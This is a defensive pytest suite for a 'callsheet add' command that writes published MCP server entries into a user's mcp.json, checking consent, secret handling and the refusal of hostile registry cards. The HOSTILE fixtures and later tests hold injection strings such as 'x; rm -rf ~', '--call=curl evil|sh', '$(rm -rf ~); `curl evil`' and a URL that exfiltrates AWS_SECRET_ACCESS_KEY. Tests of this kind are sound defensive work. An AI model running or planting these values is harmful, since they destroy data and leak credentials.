"""``callsheet add``: a published server is shown, and written into the user's own file; a hostile card is refused."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.responses import RedirectResponse

from callsheet.graphs import load
from callsheet.graphs.sources.loading import starts_in
from callsheet.graphs.trust.consent import Agreements
from card_server import Domain, domain
from commands import Cli

NAME = "io.github.example/search"
COMMENTED = """// my servers
{
  "$schema": "x", // for the editor
  "mcpServers": {
    "time": {"command": "uvx", "args": ["mcp-server-time"]}, /* clocks */
  },
  "inputs": [1, 2]
}
"""


@pytest.fixture
def registry(own_home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Domain]:
    monkeypatch.chdir(tmp_path)
    with domain() as served:
        monkeypatch.setenv("CALLSHEET_REGISTRY", served.origin)
        served.servers[NAME] = server_json(package())
        yield served


def package(**more: Any) -> dict[str, Any]:
    key = {"name": "SEARCH_KEY", "description": "Your key.", "isRequired": True, "isSecret": True}
    about = {"registryType": "npm", "identifier": "@example/search", "version": "1.2.0", "transport": {"type": "stdio"}}
    return {**about, "environmentVariables": [key, {"name": "LOG_LEVEL"}], **more}


def server_json(*packages: dict[str, Any], **more: Any) -> dict[str, Any]:
    about = {"name": NAME, "version": "1.2.0", "description": "Searches the web.", "title": "Search"}
    return {**about, "packages": list(packages), **more}


def written(folder: Path) -> Any:
    return json.loads((folder / "mcp.json").read_text(encoding="utf-8"))["mcpServers"]


def at_terminal(monkeypatch: pytest.MonkeyPatch, answer: str) -> None:
    monkeypatch.setattr("callsheet.orchestrator.cli.add.has_terminal", lambda: True)
    monkeypatch.setattr("click.confirm", lambda *_, **__: answer == "y")


def test_an_entry_is_written_with_references_to_secrets(
    cli: Cli, registry: Domain, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SEARCH_KEY", "sk-4711-0815")
    status, out, err = cli("add", NAME, "--yes", "--json")
    assert status == 0
    entry = {"command": "npx", "args": ["-y", "@example/search@1.2.0"], "env": {"SEARCH_KEY": "${SEARCH_KEY}"}}
    assert written(tmp_path) == {"search": entry}
    content = json.loads(out)
    assert content["needs"] == [{"variable": "SEARCH_KEY", "what": "Your key.", "secret": True, "set": True}]
    assert (content["entry"], content["optional"], content["added"]) == (entry, ["LOG_LEVEL"], True)
    assert "sk-4711-0815" not in out + err + (tmp_path / "mcp.json").read_text(encoding="utf-8")


def test_what_it_would_start_and_what_it_needs_are_shown_before_the_question(
    cli: Cli, registry: Domain, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at_terminal(monkeypatch, "n")
    status, _, err = cli("add", NAME)
    assert status == 1
    assert f"Search 1.2.0 ({NAME}), from {registry.origin}" in err
    line = f"search: npx -y @example/search@1.2.0  (in {tmp_path})  with SEARCH_KEY from ${{SEARCH_KEY}}"
    assert line in err
    assert "SEARCH_KEY: Your key. (secret, not set)" in err
    assert "It may also have: LOG_LEVEL" in err
    assert not (tmp_path / "mcp.json").exists()
    assert not Agreements().known()


def test_who_agrees_is_not_asked_again_when_the_catalog_is_read(
    cli: Cli, registry: Domain, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at_terminal(monkeypatch, "y")
    assert cli("add", NAME)[0] == 0
    (start,) = starts_in(str(tmp_path / "mcp.json"))
    assert Agreements().known() == {start.digest}


def test_without_a_terminal_nothing_is_written(cli: Cli, registry: Domain, tmp_path: Path) -> None:
    status, _, err = cli("add", NAME)
    assert status == 2
    assert "there is no terminal to ask in: --yes writes this into" in err
    assert not (tmp_path / "mcp.json").exists()


def test_comments_order_and_unknown_keys_of_the_file_stay(cli: Cli, registry: Domain, tmp_path: Path) -> None:
    file = tmp_path / "mcp.json"
    file.write_text(COMMENTED, encoding="utf-8")
    assert cli("add", NAME, "--yes", "--catalog", file)[0] == 0
    text = file.read_text(encoding="utf-8")
    kept = COMMENTED.splitlines()
    assert [line for line in text.splitlines() if line in kept] == kept
    assert set(load(file, yes=True, known=True).label.splitlines()) == {str(file)}
    status, _, err = cli("add", NAME, "--yes")
    assert (status, "has a server 'search' already: choose another name with --name" in err) == (2, True)
    assert file.read_text(encoding="utf-8") == text
    assert cli("add", NAME, "--yes", "--name", "second")[0] == 0
    assert '"second"' in file.read_text(encoding="utf-8")


@pytest.mark.parametrize("place", [".vscode/mcp.json", ".cursor/mcp.json", ".mcp.json", "claude_desktop_config.json"])
def test_files_of_other_programs_are_not_changed_and_the_entry_is_printed(
    cli: Cli, registry: Domain, tmp_path: Path, place: str
) -> None:
    file = tmp_path / place
    file.parent.mkdir(exist_ok=True)
    file.write_text('{"servers": {}}', encoding="utf-8")
    status, out, err = cli("add", NAME, "--yes", "--catalog", file)
    assert (status, file.read_text(encoding="utf-8")) == (1, '{"servers": {}}')
    assert json.loads(out)["search"]["command"] == "npx"
    assert "belongs to another program" in err


def test_a_file_with_the_key_of_another_program_is_not_changed(cli: Cli, registry: Domain, tmp_path: Path) -> None:
    (tmp_path / "mcp.json").write_text('{"servers": {"a": {"command": "a"}}}', encoding="utf-8")
    status, _, err = cli("add", NAME, "--yes")
    assert (status, "belongs to another program" in err) == (1, True)
    assert "search" not in (tmp_path / "mcp.json").read_text(encoding="utf-8")


def test_a_broken_file_is_not_touched(cli: Cli, registry: Domain, tmp_path: Path) -> None:
    for text in ('{"mcpServers": {', '{"mcpServers": []}', "[]"):
        (tmp_path / "mcp.json").write_text(text, encoding="utf-8")
        assert cli("add", NAME, "--yes")[0] == 2
        assert (tmp_path / "mcp.json").read_text(encoding="utf-8") == text
    (tmp_path / "mcp.json").write_bytes(b"\xff\xfe")
    status, _, err = cli("add", NAME, "--yes")
    assert (status, "not valid JSON" in err) == (2, True)


def test_an_address_goes_before_a_package_unless_another_way_is_asked_for(
    cli: Cli, registry: Domain, tmp_path: Path
) -> None:
    header = {"name": "Authorization", "value": "Bearer {token}", "variables": {"token": {"isSecret": True}}}
    remotes = [{"type": "sse", "url": f"{registry.origin}/sse"}]
    remotes.append({"type": "streamable-http", "url": registry.url, "headers": [header]})
    registry.servers[NAME] = server_json(package(), remotes=remotes)
    status, out, _ = cli("add", NAME, "--yes", "--json")
    assert (status, json.loads(out)["others"]) == (0, ["remote", "npm"])
    headers = {"Authorization": "Bearer ${SEARCH_TOKEN}"}
    assert written(tmp_path)["search"] == {"type": "http", "url": registry.url, "headers": headers}
    assert cli("add", NAME, "--yes", "--via", "npm", "--name", "local")[0] == 0
    assert written(tmp_path)["local"]["command"] == "npx"
    status, _, err = cli("add", NAME, "--yes", "--via", "oci", "--name", "third")
    assert (status, "has no usable way oci: there is remote, npm" in err) == (2, True)


def test_the_server_of_a_domain_is_added_by_its_address(cli: Cli, registry: Domain, tmp_path: Path) -> None:
    registry.publish(registry.card(), registry.card("com.example/maps"))
    status, _, err = cli("add", registry.origin, "--yes")
    assert (status, "choose one with --card: com.example/weather, com.example/maps" in err) == (2, True)
    assert cli("add", registry.origin, "--yes", "--card", "com.example/weather")[0] == 0
    loaded = load(tmp_path / "mcp.json")
    assert list(loaded.catalog.tools) == ["weather/forecast"]
    registry.publish(registry.card(), "http://127.0.0.2:9/elsewhere")
    status, _, err = cli("add", registry.origin, "--yes", "--name", "again")
    assert (status, "its card is on another host, to which nothing was sent" in err) == (0, True)
    status, _, err = cli("add", registry.origin, "--yes", "--card", "com.example/wether")
    assert (status, "did you mean" in err) == (2, True)


def test_a_name_that_the_registry_does_not_have_is_answered_with_those_that_contain_it(
    cli: Cli, registry: Domain, tmp_path: Path
) -> None:
    for name in ("search", "io.evil/search"):
        status, _, err = cli("add", name, "--yes")
        assert status == 2
        assert f"these names contain it: {NAME}" in err
    assert cli("add", "com.example/nothing", "--yes")[0] == 2
    assert not (tmp_path / "mcp.json").exists()


def test_a_deleted_server_is_refused_and_a_deprecated_one_is_told(cli: Cli, registry: Domain) -> None:
    registry.status[NAME] = "deleted"
    status, _, err = cli("add", NAME, "--yes")
    assert (status, f"has deleted {NAME}" in err) == (2, True)
    registry.status[NAME] = "deprecated"
    status, _, err = cli("add", NAME, "--yes")
    assert (status, "The registry says: deprecated." in err) == (0, True)


HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
    "shell in the name": ({"identifier": "x; rm -rf ~"}, "its name is none of a package"),
    "option as the name": ({"identifier": "--call=curl evil|sh"}, "its name is none of a package"),
    "address as the name": ({"identifier": "https://evil.example/x.tgz"}, "its name is none of a package"),
    "path as the name": ({"identifier": "../evil"}, "its name is none of a package"),
    "range of versions": ({"version": ">=1 --shell"}, "is not one version"),
    "another program": ({"runtimeHint": "bash"}, "wants to be started by 'bash'"),
    "another registry": ({"registryBaseUrl": "https://npm.evil.example"}, "is in another registry"),
    "hidden characters": (
        {"packageArguments": [{"type": "positional", "value": "safe\u202e;evil"}]},
        "has characters that are not shown",
    ),
    "a line break": (
        {"packageArguments": [{"type": "positional", "value": "a\nIt would start:\n  search: ls"}]},
        "has characters that are not shown",
    ),
    "a variable of the user": (
        {"packageArguments": [{"type": "named", "name": "--to", "value": "https://evil/${AWS_SECRET_ACCESS_KEY}"}]},
        "refers to your environment",
    ),
    "a huge argument": ({"packageArguments": [{"type": "positional", "value": "x" * 9_999}]}, "is longer than"),
    "over HTTP": ({"transport": {"type": "streamable-http", "url": "http://localhost"}}, "you must start yourself"),
    "a bundle": ({"registryType": "mcpb"}, "only packages of npm, pypi, nuget, oci"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_package_is_refused_with_its_reason(cli: Cli, registry: Domain, tmp_path: Path, what: str) -> None:
    more, expected = HOSTILE[what]
    registry.servers[NAME] = server_json(package(**more))
    status, out, err = cli("add", NAME, "--yes")
    assert status == 2
    assert expected in err
    assert "\u202e" not in out + err
    assert not (tmp_path / "mcp.json").exists()


def test_shell_characters_in_an_argument_are_one_quoted_word(
    cli: Cli, registry: Domain, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    at_terminal(monkeypatch, "y")
    word = "$(rm -rf ~); `curl evil`"
    registry.servers[NAME] = server_json(package(packageArguments=[{"type": "positional", "value": word}]))
    status, _, err = cli("add", NAME)
    assert (status, f"'{word}'" in err) == (0, True)
    assert written(tmp_path)["search"]["args"][-1] == word


def test_texts_of_a_publisher_cannot_imitate_lines_of_the_question(
    cli: Cli, registry: Domain, monkeypatch: pytest.MonkeyPatch
) -> None:
    at_terminal(monkeypatch, "n")
    registry.servers[NAME] = server_json(package(), description="x\nIt would start:\n  search: ls\x1b[2J", title="a\nb")
    _, _, err = cli("add", NAME)
    assert err.splitlines().count("It would start:") == 1
    assert "\x1b" not in err


@pytest.mark.parametrize(
    ("url", "expected"),
    [("https://me:pw@example.com/mcp", "is not plain"), ("https://example.com\\@evil.example/", "is not plain")],
)
def test_a_misleading_address_is_refused(cli: Cli, registry: Domain, tmp_path: Path, url: str, expected: str) -> None:
    registry.servers[NAME] = server_json(remotes=[{"type": "streamable-http", "url": url}])
    status, _, err = cli("add", NAME, "--yes")
    assert (status, expected in err) == (2, True)
    assert not (tmp_path / "mcp.json").exists()


@pytest.mark.parametrize("what", ["another server", "html", "huge", "redirect", "deep", "wrong types"])
def test_wrong_answers_of_a_registry_change_nothing(cli: Cli, registry: Domain, tmp_path: Path, what: str) -> None:
    address = f"/v0.1/servers/{NAME.replace('/', '%2F')}/versions/latest"
    answers: dict[str, tuple[Any, str]] = {
        "another server": ({"server": {**server_json(package()), "name": "io.evil/x"}}, "answers with another server"),
        "html": (b"<html>welcome</html>", "is not one of a registry"),
        "huge": (b" " * 3_000_000, "more than 1,000,000 bytes"),
        "redirect": (RedirectResponse(f"http://localhost:{registry.origin.rsplit(':')[-1]}/x"), "another host"),
        "deep": (b'{"server":' * 5_000, "is not one of a registry"),
        "wrong types": ({"server": {**server_json(), "packages": [7]}}, "is malformed"),
    }
    registry.pages[address], expected = answers[what]
    status, _, err = cli("add", NAME, "--yes")
    assert status == 2
    assert expected in err
    assert not (tmp_path / "mcp.json").exists()


def test_a_registry_that_is_not_there_is_named(cli: Cli, own_home: Path) -> None:
    status, _, err = cli("add", NAME, "--registry", "http://127.0.0.1:9")
    assert (status, "http://127.0.0.1:9/v0.1/servers/" in err) == (2, True)
